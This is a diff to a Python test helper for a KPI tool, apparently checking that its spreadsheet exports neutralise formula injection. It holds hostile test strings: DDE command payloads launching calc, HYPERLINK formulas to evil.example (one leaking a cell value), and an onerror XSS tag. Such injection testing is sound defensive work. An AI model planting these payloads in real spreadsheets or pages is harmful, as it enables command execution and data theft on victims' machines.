@@ -9,16 +9,22 @@ return as a formula unless it is a plain number.
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
+import os
 import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
 from typing import Any
 
 # Opportunity owners (rep ids and names) and a deal type, as an attacker would export them.
 FORMULA_REP = "=cmd|' /C calc'!A0"
 AT_REP = "@SUM(1+1)*cmd|' /C calc'!A0"
 PLUS_REP = '+HYPERLINK("http://evil.example/","click")'
-TAB_REP = "\t=1+2"
-HOSTILE_REPS = (FORMULA_REP, AT_REP, PLUS_REP, TAB_REP, "-5%")
+# (A leading tab or line break is trimmed by the import; the writers' own tests cover them.)
+HOSTILE_REPS = (FORMULA_REP, AT_REP, PLUS_REP, "-5%")
 FORMULA_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"Revenue")'
 TEX_LABEL = r"Leads $\foo$ <b>bold</b>"
 HTML_LABEL = "<img src=x onerror=alert(1)> [click](http://evil.example) | x"
@@ -92,3 +98,31 @@ def assert_inert_xlsx(content: bytes) -> Any:
 
 def xlsx_values(book: Any) -> list[Any]:
     return [c.value for s in book.worksheets for r in s.iter_rows() for c in r]
+
+
+def hostile_demo(demo_project: Path, folder: Path) -> Path:
+    """A copy of the demo in ``folder`` with the node ``won_deals`` labelled as a
+    formula and one deal won today by each of :data:`HOSTILE_REPS`, imported by a
+    real ``kpitree import`` of ``@opportunities.csv``."""
+    from zoneinfo import ZoneInfo
+
+    import yaml
+
+    shutil.copytree(demo_project, folder)
+    definition = folder / "kpitree.yaml"
+    doc = yaml.safe_load(definition.read_text(encoding="utf-8"))
+    doc["nodes"]["won_deals"]["label"] = {"ja": FORMULA_LABEL, "en": FORMULA_LABEL}
+    definition.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), "utf-8")
+    day = dt.datetime.now(ZoneInfo("Asia/Tokyo")).date().strftime("%m/%d/%Y")
+    source = folder / "@opportunities.csv"
+    source.write_text(opportunities_csv(day), encoding="utf-8")
+    command = ["import", str(source), "--mapping", "salesforce-opportunities", "-p", str(folder)]
+    result = subprocess.run(
+        [sys.executable, "-m", "kpitree", *command],
+        capture_output=True,
+        text=True,
+        env={**os.environ, "KPITREE_LANG": "en"},
+        timeout=300,
+    )
+    assert result.returncode == 0, result.stderr
+    return folder
